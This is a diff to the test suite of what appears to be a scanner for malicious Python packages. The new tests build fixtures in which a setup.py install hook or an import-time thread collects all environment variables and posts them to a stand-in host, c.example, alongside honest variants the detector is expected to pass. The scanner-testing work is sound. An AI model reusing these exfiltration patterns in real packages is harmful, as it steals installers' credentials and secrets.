@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 
 from mlsupply.evidence import neighbourhoods
-from mlsupply.evidence.companions import MAX_BYTES, companions
+from mlsupply.evidence.companions import MAX_AROUND, MAX_BYTES, companions
 from mlsupply.evidence.contents import judged
 from mlsupply.evidence.module_facts import ModuleFacts, Take
 from mlsupply.evidence.package import PackageFacts
@@ -70,6 +70,39 @@ def test_they_are_found_in_a_large_package(
 ) -> None:
     assert rule in found(looked(tmp_path / "a", {**hostile, **HOST}))
     assert not found(looked(tmp_path / "b", {**honest, **HOST}))
+
+
+@pytest.mark.parametrize(
+    ("imports", "of"), [("import _meta", "_meta."), ("import _meta as m", "m."), ("from _meta import gather, publish", "")]
+)
+def test_what_an_installation_hands_from_one_function_of_a_file_beside_it_to_another(
+    tmp_path: Path, imports: str, of: str
+) -> None:
+    setup = (
+        "import sys\nfrom setuptools import setup\nfrom setuptools.command.egg_info import egg_info\n"
+        f"sys.path.insert(0, '.')\n{imports}\nclass Info(egg_info):\n    def run(self):\n        super().run()\n"
+        f"        {of}publish({of}gather())\nsetup(name='demo', cmdclass={{'egg_info': Info}})\n"
+    )
+    sends = (
+        "import os, json, urllib.request\ndef publish(info):\n"
+        "    urllib.request.urlopen('https://c.example/i', json.dumps(info).encode())\n"
+    )
+    hostile = {"setup.py": setup, "_meta.py": sends + "def gather():\n    return {'env': dict(os.environ)}\n"}
+    honest = {"setup.py": setup, "_meta.py": sends + "def gather():\n    return {'version': '1.0'}\n"}
+    assert "MLS-C010" in found(looked(tmp_path / "a", hostile))
+    assert not found(looked(tmp_path / "b", honest))
+
+
+@pytest.mark.parametrize("started", ["target=Sync()", "None, Sync()"])
+def test_an_object_that_a_thread_calls_is_followed_however_it_is_passed(tmp_path: Path, started: str) -> None:
+    text = (
+        "import os, json, threading, urllib.request\nclass Sync:\n    def __call__(self):\n"
+        "        urllib.request.urlopen('https://c.example/i', {sent})\n"
+        f"threading.Thread({started}).start()\n"
+    )
+    hostile = looked(tmp_path / "a", {"__init__": text.replace("{sent}", "json.dumps(dict(os.environ)).encode()")})
+    assert any(fact.behaviour == "sends" and fact.moment == "import" for fact in hostile.code)
+    assert not found(looked(tmp_path / "b", {"__init__": text.replace("{sent}", "b'up'")}))
 
 
 def test_what_a_module_shows_alone_is_told_once(tmp_path: Path) -> None:
@@ -155,7 +188,7 @@ def test_small_modules_come_first_and_large_ones_do_not_crowd_them_out() -> None
     facts = [one for path in many for one in acting(path)]
     groups = companions(facts, {**sources, **many, **LARGE})
     assert [group[0] for group in groups] == sorted(many)[: len(groups)]
-    assert 10 < len(groups) <= MAX_BYTES // 9_000
+    assert len(groups) == MAX_AROUND // (9_000 + len(imports) + 50)
 
 
 def test_thousands_of_modules_that_act_are_not_all_searched(monkeypatch: pytest.MonkeyPatch) -> None:
